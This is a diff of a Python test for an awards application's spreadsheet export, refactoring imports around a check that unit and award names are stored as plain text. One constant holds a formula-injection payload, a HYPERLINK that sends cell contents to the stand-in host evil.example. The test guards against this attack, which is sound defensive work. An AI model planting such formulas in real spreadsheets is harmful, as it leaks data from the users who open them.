@@ -9,7 +9,8 @@ from openpyxl import Workbook, load_workbook
 
 from app.models.awards import AwardCategory, AwardTypeRef, RecipientKind
 from app.models.units import UnitKind, UnitRef
-from app.services import award_summary, spreadsheets
+from app.services import spreadsheets
+from app.services.awards import summary
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 
@@ -47,12 +48,12 @@ def test_the_award_summary_xlsx_writes_names_as_text():
         id=1, code="CUC", name=EVIL, kind=UnitKind.provincial_department, is_external=False
     )
     award = AwardTypeRef(code="GK", name_vi="@Giấy khen", category=AwardCategory.form)
-    summary = award_summary.AwardSummary(
+    result = summary.AwardSummary(
         year=2022,
         unit=issuer,
         include_all=False,
         rows=[
-            award_summary.SummaryRow(
+            summary.SummaryRow(
                 issuer=issuer,
                 award_type=award,
                 recipient_kind=RecipientKind.collective,
@@ -60,11 +61,9 @@ def test_the_award_summary_xlsx_writes_names_as_text():
                 count=3,
             )
         ],
-        totals=award_summary.SummaryTotals(
-            awards=3, collective=3, individual=0, internal=3, external=0
-        ),
+        totals=summary.SummaryTotals(awards=3, collective=3, individual=0, internal=3, external=0),
     )
-    sheet = load_workbook(io.BytesIO(award_summary.to_xlsx(summary))).active
+    sheet = load_workbook(io.BytesIO(summary.to_xlsx(result))).active
     row = [c for c in sheet[4]]
     assert (row[1].value, row[1].data_type) == (EVIL, "s")
     assert (row[2].value, row[2].data_type) == ("@Giấy khen", "s")
